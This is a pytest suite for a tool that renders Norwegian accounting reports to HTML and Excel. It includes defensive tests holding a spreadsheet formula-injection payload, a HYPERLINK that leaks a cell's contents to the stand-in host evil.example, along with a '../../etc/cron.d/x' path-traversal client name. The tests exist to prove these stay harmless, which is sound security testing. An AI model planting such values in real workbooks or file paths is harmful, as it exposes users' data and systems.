"""``osr report`` writes HTML and Excel; the HTML is read back by a real headless browser, the workbook by openpyxl."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from zipfile import ZipFile

import pytest
import yaml
from openpyxl import load_workbook

from .conftest import synthetic_connection, write_registry
from .helpers import osr
from .report_books import COMPANY, insert_books

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
sqlite_only = pytest.mark.parametrize("warehouse_url", ["sqlite"], indirect=True)


class Elements(HTMLParser):
    """Every element of a document as (tag, attributes, text inside), in order."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str], list[str]]] = []
        self._open: list[list[str]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        texts: list[str] = []
        self.elements.append((tag, dict(attrs), texts))
        self._open.append(texts)

    def handle_endtag(self, tag: str) -> None:
        if self._open:
            self._open.pop()

    def handle_data(self, data: str) -> None:
        for texts in self._open:
            texts.append(data)


def browser_dom(page: Path) -> Elements:
    """The DOM as Chromium built it from the page (not the file as written)."""
    done = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                           "--no-first-run", "--dump-dom", page.as_uri()], capture_output=True, text=True,
                          timeout=120, check=True)
    parsed = Elements()
    parsed.feed(done.stdout)
    return parsed


@pytest.fixture
def books_home(home: Path, warehouse_url: str) -> Path:
    insert_books(warehouse_url).dispose()
    write_registry(home / "registry.yaml", [synthetic_connection("books")], [("books", "sek")])
    return home


def written(output: str) -> tuple[Path, Path]:
    page = re.search(r"HTML\s+(\S+\.html)", output)
    book = re.search(r"Excel\s+(\S+\.xlsx)", output)
    assert page and book, output
    return Path(page.group(1)), Path(book.group(1))


def grid_rows(dom: Elements, *kinds: str) -> list[list[str]]:
    """The cells of a rendered table's rows of ``kinds`` (line, total, account, heading), as the browser shows them."""
    out = []
    for i, (_, attrs, _) in enumerate(dom.elements):
        classes = attrs.get("class", "").split()
        if attrs.get("role") == "row" and classes[:1] == ["row"] and set(classes) & set(kinds):
            cells = []
            for _, a, texts in dom.elements[i + 1:]:
                if a.get("role") != "cell":
                    break
                cells.append(" ".join(texts).strip())
            out.append(cells)
    return out


N = "\u00a0"  # Norwegian amounts group thousands with a no-break space


@sqlite_only
def test_income_statement_html_renders_in_a_browser(books_home: Path) -> None:
    page, _ = written(osr("report", "income-statement", "--company", COMPANY, "--period", "2023-12").output)
    assert page.parent == books_home / "reports"
    dom = browser_dom(page)
    title = next(" ".join(t).strip() for tag, _, t in dom.elements if tag == "h1")
    assert title == "Resultatregnskap 2023-12: Company sek"  # the company's name, not its key
    assert grid_rows(dom, "line", "total") == [
        ["3000–3599", "Salgsinntekt", "0,00", f"1{N}000,00", "400,00", "400,00"],
        ["", "Sum driftsinntekter", "0,00", f"1{N}000,00", "400,00", "400,00"],
        ["4000–4999", "Varekostnad", "300,00", "300,00", "0,00", "0,00"],
        ["", "Sum driftskostnader", "300,00", "300,00", "0,00", "0,00"],
        ["", "Driftsresultat", "-300,00", "700,00", "400,00", "400,00"],
        ["", "Resultat før skattekostnad", "-300,00", "700,00", "400,00", "400,00"],
        ["", "Årsresultat", "-300,00", "700,00", "400,00", "400,00"]]
    assert grid_rows(dom, "account")[0] == ["3000", "Salgsinntekt", "0,00", f"1{N}000,00", "400,00", "400,00"]
    folded = [a for tag, a, _ in dom.elements if tag == "details"]
    assert len(folded) == 2 and not any("open" in a for a in folded)  # each line's accounts, folded under it
    svg = next(a for tag, a, _ in dom.elements if tag == "svg")
    assert svg["id"] == "monthly-result" and svg["aria-label"] == "Resultat per måned, 2023 mot 2022 (SEK)"
    bars = [a["id"] for tag, a, _ in dom.elements if tag == "g" and a.get("id", "").startswith("monthly-result-")]
    assert len(bars) == 24  # twelve months of 2023 against twelve of 2022
    texts = {" ".join(t).strip() for tag, _, t in dom.elements if tag == "text"}
    assert {f"1{N}000", "-300", "400", "SEK", "Des", "Resultat per måned, 2023 mot 2022"} <= texts  # values, axis


@sqlite_only
def test_trial_balance_workbook_holds_numbers_and_formulas(books_home: Path, tmp_path: Path) -> None:
    output = osr("report", "trial-balance", "--company", COMPANY, "--period", "2024-01", "--out", str(tmp_path)).output
    page, book = written(output)
    assert (page.parent, book.name) == (tmp_path, "books.sek-trial-balance-2024-01.xlsx")
    workbook = load_workbook(book)
    assert workbook.properties.title == "Saldobalanse 2024-01: Company sek"
    sheet = workbook["Saldobalanse"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "Saldobalanse 2024-01: Company sek" and rows[1][0] == "Saldobalanse 2024-01 (SEK)"
    assert rows[2] == ["Konto", "Navn", "Inngående", "Debet", "Kredit", "Bevegelse", "Utgående"]
    by_account = {r[0]: r[2:] for r in rows[3:]}
    assert by_account[1920] == [1400, 500, 200, 300, 1700]  # account numbers are numbers
    assert by_account[2050] == [-1100, 0, 0, 0, -1100]
    assert rows[-1] == [None, "Sum", "=SUM(C4:C8)", "=SUM(D4:D8)", "=SUM(E4:E8)", "=SUM(F4:F8)", "=SUM(G4:G8)"]
    assert sheet.cell(4, 3).number_format == "#,##0.00"
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("C4", "A3:G9")
    assert sheet.row_dimensions[4].outline_level == 0  # a trial balance's accounts are under no line
    assert all(sheet.column_dimensions[c].width >= len("-1 100,00") + 2 for c in "CG")  # the largest amounts fit


@sqlite_only
def test_balance_sheet_workbook_outlines_accounts_and_adds_totals_by_formula(books_home: Path,
                                                                             tmp_path: Path) -> None:
    _, book = written(osr("report", "balance-sheet", "--company", COMPANY, "--period", "2024-01",
                          "--out", str(tmp_path)).output)
    sheet = load_workbook(book)["Balanse"]
    rows = {r[1].value: (r[0].row, [c.value for c in r[2:]]) for r in sheet.iter_rows(min_row=4)}
    bank_line, bank = rows["Bankinnskudd, kontanter o.l."], rows["Bankinnskudd"]
    assert bank[1] == [1700, 1400] and sheet.row_dimensions[bank[0]].outline_level == 1
    assert bank_line[1] == [f"=SUM(C{bank[0]}:C{bank[0]})", f"=SUM(D{bank[0]}:D{bank[0]})"]
    assets = rows["Sum eiendeler"][1][0]
    assert assets == f"=SUM(C{rows['Sum anleggsmidler'][0]}:C{rows['Sum omløpsmidler'][0]})" or \
        assets == f"=C{rows['Sum anleggsmidler'][0]}+C{rows['Sum omløpsmidler'][0]}"
    assert rows["Sum egenkapital og gjeld"][1][0] == (f"=C{rows['Sum egenkapital'][0]}+C"
                                                      f"{rows['Sum langsiktig gjeld'][0]}+C"
                                                      f"{rows['Sum kortsiktig gjeld'][0]}")


#: account names as an ERP may hand them over: each would be a live formula in a spreadsheet
FORMULAS = {"1920": '=HYPERLINK("http://evil.example/?"&C3,"Klikk")', "2400": "\r+47 Gjeld", "3000": "@SUM(C3:C9)",
            "6300": "-1+2 Leie", "2050": "\t=1+1"}


def test_erp_text_that_looks_like_a_formula_stays_text_in_the_workbook(home: Path, warehouse_url: str,
                                                                        tmp_path: Path) -> None:
    from sqlalchemy import update

    from osr_pipelines.warehouse.schema import dimension_tables

    wh = insert_books(warehouse_url)
    accounts = dimension_tables["accounts"]
    with wh.engine.begin() as conn:
        for number, name in FORMULAS.items():
            conn.execute(update(accounts).where(accounts.c.number == number).values(name=name))
    wh.dispose()
    write_registry(home / "registry.yaml", [synthetic_connection("books")], [("books", "sek")])
    _, book = written(osr("report", "trial-balance", "--company", COMPANY, "--period", "2024-01",
                          "--out", str(tmp_path / "out")).output)
    sheet = load_workbook(book)["Saldobalanse"]
    names = {str(row[0].value): row[1] for row in sheet.iter_rows(min_row=4) if row[0].value}
    # XML may read a carriage return back as a line feed: still text, as the data type says
    assert {n: names[n].value.replace("\r", "\n") for n in FORMULAS} == {
        n: text.replace("\r", "\n") for n, text in FORMULAS.items()}
    assert {names[number].data_type for number in FORMULAS} == {"s"}
    assert all(names[number].quotePrefix for number in FORMULAS)
    row_2050 = next(row for row in sheet.iter_rows(min_row=4) if row[0].value == 2050)
    assert (row_2050[2].value, row_2050[2].data_type) == (-1100, "n")  # a negative amount is still a number
    with ZipFile(book) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    # the only formulas are the totals this code writes over its own cells
    assert re.findall(r"<f>(.*?)</f>", xml) == [f"SUM({c}4:{c}8)" for c in "CDEFG"] and "HYPERLINK" in xml
    assert re.search(r'<c r="B\d+"[^>]* t="inlineStr"><is><t>=HYPERLINK', xml)


@sqlite_only
@pytest.mark.parametrize("period", ["0000-01", "2024-13", "3000-01"])
def test_a_period_outside_the_calendar_is_a_usage_error(books_home: Path, period: str) -> None:
    result = osr("report", "trial-balance", "--company", COMPANY, "--period", period, ok=False)
    assert result.exit_code == 2, result.output
    assert (f"Error: Invalid value for '--period': '{period}' is not a month from 1900-01 to 2999-12; write it as "
            "YYYY-MM, e.g. 2024-03") in result.output
    assert not (books_home / "reports").exists()


@pytest.fixture
def unwritable(tmp_path: Path) -> Iterator[Path]:
    """A folder nothing can be written to, for root too (an immutable folder: root's permission bits are moot)."""
    folder = tmp_path / "locked"
    folder.mkdir()
    if os.geteuid() != 0:
        folder.chmod(0o500)
    elif subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode != 0:
        pytest.skip("this file system cannot make a folder immutable")
    try:
        yield folder
    finally:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(folder)], check=True)
        folder.chmod(0o700)


@sqlite_only
def test_an_out_folder_that_cannot_be_written_is_one_line(books_home: Path, unwritable: Path, tmp_path: Path) -> None:
    result = osr("report", "trial-balance", "--company", COMPANY, "--period", "2024-01", "--out", str(unwritable),
                 ok=False)
    assert result.exit_code == 1
    assert re.fullmatch(rf"Error: --out {unwritable}: cannot write there \((permission denied|operation not "
                        r"permitted)\)\n", result.output), result.output
    (tmp_path / "file").write_text("")
    result = osr("report", "trial-balance", "--company", COMPANY, "--period", "2024-01",
                 "--out", str(tmp_path / "file" / "reports"), ok=False)
    assert (result.exit_code, result.output) == (1, f"Error: --out {tmp_path / 'file' / 'reports'}: cannot write "
                                                    "there (not a directory)\n")


@sqlite_only
def test_a_company_not_in_the_registry_is_named(books_home: Path) -> None:
    result = osr("report", "balance-sheet", "--company", "books.nope", ok=False)
    assert result.exit_code == 1
    assert "company 'books.nope' is not in the registry" in result.output
    assert not (books_home / "reports").exists()


@sqlite_only
def test_a_clients_consolidated_report_shows_eliminations_in_browser_and_workbook(home: Path,
                                                                                 warehouse_url: str) -> None:
    from .group_books import RATES_CSV, insert_group

    insert_group(warehouse_url).dispose()
    (home / "registry.yaml").write_text(yaml.safe_dump({
        "customers": [{"name": "Acme", "groups": [{"name": "Acme", "clients": [{"name": "Group"}]}]}],
        "connections": [synthetic_connection("g")],
        "companies": [{"connection": "g", "erp_id": e, "name": e, "client": "Group"} for e in ("parent", "sub")]}))
    (home / "rates.csv").write_text(RATES_CSV)
    (home / "consolidation.yaml").write_text(yaml.safe_dump({"clients": {"Group": {
        "currency": "NOK", "rates": "rates.csv", "eliminate": {"counterparty": "free_dimension_1"}}}}))
    page, book = written(osr("report", "income-statement", "--client", "Group").output)
    dom = browser_dom(page)
    headers = [" ".join(t).strip() for tag, a, t in dom.elements if a.get("role") == "columnheader"][:6]
    assert headers == ["Linje", "Navn", "parent", "sub", "Elimineringer", "Konsern"]  # names, not keys
    texts = [" ".join(t).strip() for tag, _, t in dom.elements if tag == "text"]
    assert {"parent", "sub", "Elimineringer", "Konsern", "700", f"1{N}900", f"2{N}600"} <= set(texts)
    assert len([a for tag, a, _ in dom.elements if tag == "g" and a.get("id", "").startswith(
        "consolidated-result-result-")]) == 4
    workbook = load_workbook(book)
    sheet = workbook["Konsolidert resultatregnskap"]
    rows = {r[0].value: (r[0].row, [c.value for c in r[2:6]]) for r in sheet.iter_rows(min_row=4)}
    assert rows[3050][1] == [950, 0, -950, 0]  # the intercompany sale, eliminated; account numbers as numbers
    assert sheet.row_dimensions[rows[3050][0]].outline_level == 1  # account detail, outlined under its line
    line = rows["3000–3599"][0]  # Salgsinntekt, the statutory line
    assert rows["3000–3599"][1] == [f"=SUM({c}{line + 1}:{c}{line + 2})" for c in "CDEF"]  # 950 + 0, 2850 + 0, ...
    figures = {r[0].value: [c.value for c in r[1:]] for r in workbook["Per selskap hittil i år"].iter_rows(min_row=4)}
    assert figures["Konsern"][2] == Decimal("2600.00") or figures["Konsern"][2] == 2600
    assert len(workbook["Per selskap hittil i år"]._charts) == 1  # a native chart of the figures
    assert osr("report", "trial-balance", "--client", "Group", ok=False).exit_code == 2


@pytest.mark.parametrize("name", ["N" * 300, "Bjørn\u202e & Åse\u200b <Gruppe>", "../../etc/cron.d/x"],
                         ids=["300-characters", "override-and-zero-width", "slashes"])
def test_any_client_name_gives_a_safe_file_name_and_keeps_its_text_inside(warehouse_url: str, tmp_path: Path,
                                                                          name: str) -> None:
    from html import escape

    from osr_pipelines.reports import files
    from osr_pipelines.reports.consolidation import ClientSetup, Eliminations, consolidate
    from osr_pipelines.reports.rates import rates_from_csv

    from .group_books import PARENT, RATES_CSV, SUB, insert_group

    wh = insert_group(warehouse_url)
    (tmp_path / "rates.csv").write_text(RATES_CSV)
    setup = ClientSetup(name, "NOK", (PARENT, SUB), Eliminations(counterparty="free_dimension_1"))
    group = consolidate(wh.engine, setup, rates_from_csv(tmp_path / "rates.csv"), 202401)
    wh.dispose()
    page, book = files.write(files.client_document(group, "balance-sheet"), tmp_path / "out")
    assert page.parent == book.parent == tmp_path / "out"  # nothing written elsewhere
    stem = page.name.removesuffix("-consolidated-balance-sheet-2024-01.html")
    assert re.fullmatch(r"[A-Za-z0-9._-]{1,71}-[0-9a-f]{8}", stem), page.name
    assert book.name == f"{stem}-consolidated-balance-sheet-2024-01.xlsx"
    assert f"<h1>Konsolidert balanse 2024-01: {escape(name)}</h1>" in page.read_text(encoding="utf-8")


def test_file_names_keep_safe_names_and_never_share_a_file() -> None:
    from osr_pipelines.reports.files import file_name

    assert [file_name(n) for n in ("books.sek", "Group", "acme-tt.1001")] == ["books.sek", "Group", "acme-tt.1001"]
    assert file_name("Bjørn Æble Åse") == "Bjorn_Aeble_Ase"  # spelled out, readable, no hash
    names = ["Acme Group", "Acme-Group", "Acme\u200bGroup", "AcmeGroup", "Acme\u202eGroup", "N" * 300, "N" * 301]
    assert len({file_name(n) for n in names}) == len(names)
    assert max(len(file_name(n)) for n in names) == 80


def test_a_clients_name_with_letters_beyond_ascii_names_its_files_through_osr_report(home: Path,
                                                                                    warehouse_url: str) -> None:
    from .group_books import RATES_CSV, insert_group

    client = "Bjørn & Åse Gruppe"
    insert_group(warehouse_url).dispose()
    (home / "registry.yaml").write_text(yaml.safe_dump({
        "customers": [{"name": "Acme", "groups": [{"name": "Acme", "clients": [{"name": client}]}]}],
        "connections": [synthetic_connection("g")],
        "companies": [{"connection": "g", "erp_id": e, "name": e, "client": client} for e in ("parent", "sub")]},
        allow_unicode=True), encoding="utf-8")
    (home / "rates.csv").write_text(RATES_CSV)
    (home / "consolidation.yaml").write_text(yaml.safe_dump({"clients": {client: {
        "currency": "NOK", "rates": "rates.csv", "eliminate": {"counterparty": "free_dimension_1"}}}},
        allow_unicode=True), encoding="utf-8")
    page, _ = written(osr("report", "income-statement", "--client", client).output)
    assert re.fullmatch(r"Bjorn_Ase_Gruppe-[0-9a-f]{8}-consolidated-income-statement-2024-01\.html", page.name)
    assert "<h1>Konsolidert resultatregnskap 2024-01: Bjørn &amp; Åse Gruppe</h1>" in page.read_text(encoding="utf-8")


def test_a_table_from_elsewhere_gets_its_detail_folded_and_its_totals_as_formulas_where_they_add_up(
        tmp_path: Path) -> None:
    from osr_pipelines.reports import files
    from osr_pipelines.reports.tables import Row, Table

    d = Decimal
    table = Table("Konsolidert", ("Line", "Name", "acme.1", "Consolidated"), [
        Row(("B", "Omløpsmidler", d("30.00"), d("30.00")), strong=True),
        Row(("1500", "Kundefordringer", d("10.00"), d("10.00"))),
        Row(("1920", "Bank", d("20.00"), d("20.00"))),
        Row(("E", "Kortsiktig gjeld", d("-30.00"), d("-31.00")), strong=True),  # not its accounts' sum
        Row(("2400", "Leverandørgjeld", d("-30.00"), d("-30.00"))),
        Row(("", "Sum", d("0.00"), d("-1.00")), strong=True)])
    doc = files.Document("Konsolidert balanse: Acme", "acme", "NOK", [("Konsolidert", table)], [],
                         names={"acme.1": "Acme AS"})
    page, book = files.write(doc, tmp_path)
    dom = browser_dom(page)
    assert len([a for tag, a, _ in dom.elements if tag == "details"]) == 2
    assert [" ".join(t).strip() for _, a, t in dom.elements if a.get("role") == "columnheader"] == [
        "Linje", "Navn", "Acme AS", "Konsern"]
    sheet = load_workbook(book)["Konsolidert"]
    values = {r[1].value: [c.value for c in r[2:]] for r in sheet.iter_rows(min_row=4)}
    assert values["Omløpsmidler"] == ["=SUM(C5:C6)", "=SUM(D5:D6)"]
    assert values["Kortsiktig gjeld"] == [-30, -31]  # a figure its rows do not add up to stays a figure
    assert values["Sum"] == ["=C4+C7", "=D4+D7"]
    assert [sheet.row_dimensions[r].outline_level for r in (5, 6, 8)] == [1, 1, 1]


@pytest.mark.parametrize("name", ["Pris $5 og $6 AS", r"Bad $\frac AS$ & <Co>"])
def test_a_company_name_with_dollar_signs_is_drawn_as_text_in_the_chart(name: str) -> None:
    """Dollar signs are TeX to matplotlib: a name between two of them would be typeset, or fail to parse."""
    from html import escape

    from osr_pipelines.reports.chart import Series, bar_chart

    svg = bar_chart("names", "Resultat", [name, "Sub AS"], [Series("result", "Resultat", [Decimal(5), Decimal(-2)])],
                    "NOK")
    assert f">{escape(name, quote=False)}<" in svg
